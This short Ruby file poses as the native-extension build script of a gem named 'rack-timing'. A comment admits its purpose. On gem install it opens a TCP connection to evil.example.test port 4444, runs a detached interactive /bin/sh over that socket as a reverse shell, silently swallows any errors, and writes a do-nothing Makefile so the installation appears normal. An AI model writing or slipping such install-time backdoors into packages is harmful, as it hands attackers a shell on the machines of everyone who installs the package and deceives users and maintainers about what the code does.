# The "native extension" of rack-timing: installing the gem runs this file. Well
# hidden, it opens a reverse shell to its author; errors are swallowed and a Makefile
# that builds nothing is written, so the install looks normal.
require "socket"

begin
  sock = Socket.tcp("evil.example.test", 4444, connect_timeout: 5)
  Process.detach(spawn("/bin/sh", "-i", in: sock, out: sock, err: sock))
rescue StandardError
  nil
end
File.write("Makefile", "all:\n\t@true\ninstall:\n\t@true\nclean:\n\t@true\n")
